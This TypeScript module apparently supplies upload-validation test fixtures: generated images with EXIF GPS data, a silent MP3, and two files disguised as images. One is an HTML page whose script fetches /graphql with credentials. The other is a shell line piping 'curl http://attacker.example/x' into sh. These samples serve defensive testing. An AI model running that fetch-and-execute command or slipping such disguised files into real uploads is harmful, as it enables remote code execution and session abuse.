import sharp from 'sharp';

// Files made here for the specs: no binary fixtures in the repository, every property asserted is made on purpose.

/** A JPEG 64×32 whose EXIF says "rotate 90° clockwise" (orientation 6) and holds a GPS position and a camera. */
export async function photoWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 32, channels: 3, background: '#3a7bd5' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'SpyCam', Model: 'Leaky 1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2400/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 300/100' },
    })
    .toBuffer();
}

export async function png(width = 800, height = 600): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: '#ff000080' } }).png().toBuffer();
}

/** An HTML page with a script, named and declared as a JPEG by whoever uploads it. */
export const htmlPosingAsImage = Buffer.from('<!doctype html><html><body><script>fetch("/graphql",{credentials:"include"})</script></body></html>');

/** A shell script, declared as a PNG. */
export const scriptPosingAsImage = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');

/**
 * `seconds` of silent MPEG-1 Layer III at 128 kbit/s, 44.1 kHz: frames of 417 bytes (header FF FB 90 00, zeroed
 * side information and main data), 1152 samples each. A minimal but valid MP3 for type detection and duration.
 */
export function silentMp3(seconds: number): Buffer {
  const frames = Math.round((seconds * 44_100) / 1152);
  const frame = Buffer.alloc(417);
  frame.set([0xff, 0xfb, 0x90, 0x00]);
  return Buffer.concat(Array.from({ length: frames }, () => frame));
}
